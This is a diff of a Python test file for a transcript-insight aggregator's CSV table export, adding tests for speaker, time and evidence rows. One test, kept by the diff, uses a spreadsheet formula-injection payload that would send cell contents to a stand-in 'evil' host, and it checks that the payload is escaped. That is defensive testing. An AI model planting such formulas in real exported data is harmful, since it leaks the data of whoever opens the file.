@@ -2,9 +2,19 @@ from __future__ import annotations
 
 import csv
 import io
+from dataclasses import asdict
 from typing import Any
 
-from runner.answers.insights import COLUMNS, aggregate, as_csv, as_markdown
+from runner.answers.insights import (
+    COLUMNS,
+    MergedInsight,
+    aggregate,
+    as_markdown,
+    placed,
+    rows_of,
+)
+from runner.base.tables import as_rows
+from runner.transcript.model import Segment
 
 
 def insight(text: str, confidence: float, *quotes: tuple[str, str]) -> dict[str, Any]:
@@ -61,11 +71,37 @@ def test_findings_that_only_share_a_quote_stay_apart() -> None:
 
 def test_no_cell_of_the_table_is_taken_for_a_formula() -> None:
     evil = insight('=HYPERLINK("http://evil/?q="&A1)', 0.5, ("S0001", "@SUM(1)"))
-    rows = list(csv.reader(io.StringIO(as_csv(aggregate(answers(a=[evil]))))))
+    (row,) = table(aggregate(answers(a=[evil])))
 
-    assert tuple(rows[0]) == COLUMNS
-    assert rows[1][0] == '\'=HYPERLINK("http://evil/?q="&A1)'
-    assert rows[1][5] == "'@SUM(1)"
+    assert row["text"] == '\'=HYPERLINK("http://evil/?q="&A1)'
+    assert row["quote"] == "'@SUM(1)"
+
+
+def table(insights: list[MergedInsight], per: str = "insight") -> list[dict[str, str]]:
+    rows = rows_of(map(asdict, insights), "call", per)
+    return list(csv.DictReader(io.StringIO(as_rows([COLUMNS, *rows]))))
+
+
+def test_a_row_tells_who_said_it_and_when() -> None:
+    found = aggregate(answers(a=[insight("Pumps fail.", 0.9, PUMP, ("S0002", "yes"))]))
+    segments = [Segment("S0001", "Ann", 61.0, None, "x"), Segment("S0002", None, None, None, "y")]
+    placed(found, segments)
+    wanted = ("transcript", "speaker", "start", "segment", "quote")
+
+    assert [("call", "Ann", "0:01:01", "S0001 S0002", "the pump failed twice | yes")] == [
+        tuple(row[name] for name in wanted) for row in table(found)
+    ]
+    assert [
+        ("call", "Ann", "0:01:01", "S0001", "the pump failed twice"),
+        ("call", "", "", "S0002", "yes"),
+    ] == [tuple(row[name] for name in wanted) for row in table(found, "evidence")]
+
+
+def test_an_insight_without_evidence_is_a_row_all_the_same() -> None:
+    for per in ("insight", "evidence"):
+        assert ["Pumps fail."] == [
+            row["text"] for row in table(aggregate(answers(a=[insight("Pumps fail.", 0.9)])), per)
+        ]
 
 
 def test_the_page_names_who_found_what_and_where() -> None:
